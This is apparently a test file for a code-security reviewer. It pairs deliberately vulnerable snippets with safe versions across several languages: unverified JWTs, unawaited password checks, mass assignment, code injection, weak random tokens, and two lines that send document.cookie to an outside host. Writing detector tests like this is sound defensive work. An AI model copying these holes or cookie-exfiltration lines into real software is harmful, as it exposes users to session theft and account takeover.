import { expect, test } from 'vitest';
import { security } from '../../../reviewers/security/index.ts';
import { runChecks } from '../check-table.ts';

/** The rules that new code breaks, by the reviewer's sinks; critical ones with `!`. */
const rulesOf = async (path: string, code: string) =>
  (await runChecks(security, { old: {}, new: { [path]: code } }, { only: ['dangerous-sinks'] })).reports.map(
    ({ rule, severity = '' }) => (severity === 'critical' ? `${rule}!` : rule),
  );

const JWT = "import jwt from 'jsonwebtoken';\n";
const BCRYPT = "import bcrypt from 'bcrypt';\n";
/** What somebody may do who writes it one way, and not who writes it the other. */
test.for<[what: string, path: string, bad: string, safe: string, rule: string]>([
  [
    'a token that is only decoded',
    'a.js',
    `${JWT}export function auth(req, res, next) {\n  req.user = jwt.decode(req.headers.authorization);\n  next();\n}\n`,
    `${JWT}export function auth(req, res, next) {\n  const { kid } = jwt.decode(req.headers.authorization);\n  req.user = jwt.verify(req.headers.authorization, keys[kid]);\n  next();\n}\n`,
    'unverified-token!',
  ],
  [
    'a comparison that nobody waits for',
    'a.ts',
    `${BCRYPT}export async function login(user, password) {\n  if (!bcrypt.compare(password, user.hash)) throw new Error('no');\n  return user;\n}\n`,
    `${BCRYPT}export async function login(user, password) {\n  if (!(await bcrypt.compare(password, user.hash))) throw new Error('no');\n  return user;\n}\n`,
    'ineffective-condition!',
  ],
  [
    'the same by a name',
    'a.js',
    `${BCRYPT}export async function login(user, password) {\n  const ok = bcrypt.compare(password, user.hash);\n  if (!ok) throw new Error('no');\n  return user;\n}\n`,
    `${BCRYPT}export async function login(user, password) {\n  const ok = await bcrypt.compare(password, user.hash);\n  if (!ok) throw new Error('no');\n  return user;\n}\n`,
    'ineffective-condition!',
  ],
  [
    'cookies in an address of others',
    'a.js',
    'export const f = () => {\n  new Image().src = "https://t.example.org/?c=" + document.cookie;\n};\n',
    'export const f = () => {\n  new Image().src = "https://t.example.org/?c=" + page.title;\n};\n',
    'secret-sent-away!',
  ],
  [
    'cookies in a body',
    'a.ts',
    "export const f = () => fetch('https://t.example.org/b', { method: 'POST', body: document.cookie });\n",
    "export const f = () => fetch('/b', { method: 'POST', body: document.cookie });\n",
    'secret-sent-away!',
  ],
  [
    'a whole body',
    'a.js',
    'export const create = async (req, res) => res.json(await User.create(req.body));\n',
    'export const create = async (req, res) => res.json(await User.create({ name: req.body.name }));\n',
    'mass-assignment',
  ],
  [
    'a whole body over what is there',
    'a.js',
    'export async function f(req, res) {\n  Object.assign(user, req.body);\n  await user.save();\n}\n',
    'export async function f(req, res) {\n  const copy = Object.assign({}, req.body);\n  res.json(copy);\n}\n',
    'mass-assignment',
  ],
  [
    'Python: a function that the request names',
    'a.py',
    'from flask import request\n\nfrom . import handlers\n\n\ndef act():\n    return getattr(handlers, request.args["action"])()\n',
    'from flask import request\n\nfrom . import handlers\n\nALLOWED = ("list", "show")\n\n\ndef act():\n    name = request.args["action"]\n    if name not in ALLOWED:\n        return None\n    return getattr(handlers, name)()\n',
    'code-injection',
  ],
  [
    'Python: a token of the module random',
    'a.py',
    'import random\n\n\ndef reset_token():\n    return str(random.random())\n',
    'import random\n\n\ndef fetch_token():\n    sleep(random.random())\n    return ask()\n',
    'predictable-secret',
  ],
  [
    'Python: by a name that is imported',
    'a.py',
    'from random import choice\n\n\ndef make_password():\n    return "".join(choice("abc") for _ in range(9))\n',
    'from secrets import choice\n\n\ndef make_password():\n    return "".join(choice("abc") for _ in range(9))\n',
    'predictable-secret',
  ],
  [
    'Go',
    'a.go',
    'package a\n\nimport "math/rand"\n\nfunc sessionToken() int64 {\n\treturn rand.Int63()\n}\n',
    'package a\n\nimport "math/rand"\n\nfunc refreshToken() {\n\twait(rand.Int63())\n}\n',
    'predictable-secret',
  ],
  [
    'Java',
    'A.java',
    'import java.util.Random;\nclass A {\n  String resetToken() {\n    Random r = new Random();\n    return Long.toHexString(r.nextLong());\n  }\n}\n',
    'import java.security.SecureRandom;\nclass A {\n  String resetToken() {\n    SecureRandom r = new SecureRandom();\n    return Long.toHexString(r.nextLong());\n  }\n}\n',
    'predictable-secret',
  ],
  [
    'PHP',
    'a.php',
    '<?php\nfunction resetToken(): string\n{\n    return md5((string) mt_rand());\n}\n',
    '<?php\nfunction resetToken(): string\n{\n    return bin2hex(random_bytes(16));\n}\n',
    'predictable-secret',
  ],
  [
    'Ruby',
    'a.rb',
    'def reset_token\n  rand(10**10).to_s\nend\n',
    'def reset_token\n  SecureRandom.hex(16)\nend\n',
    'predictable-secret',
  ],
  [
    'C#',
    'A.cs',
    'class A {\n  string ResetToken() {\n    var r = new System.Random();\n    return r.Next().ToString();\n  }\n}\n',
    'class A {\n  string PickColour() {\n    var r = new System.Random();\n    return r.Next().ToString();\n  }\n}\n',
    'predictable-secret',
  ],
])('%s is told, its safe twin is not', async ([, path, bad, safe, rule]) => {
  expect(await rulesOf(path, bad)).toEqual([rule]);
  expect(await rulesOf(path, safe)).toEqual([]);
});
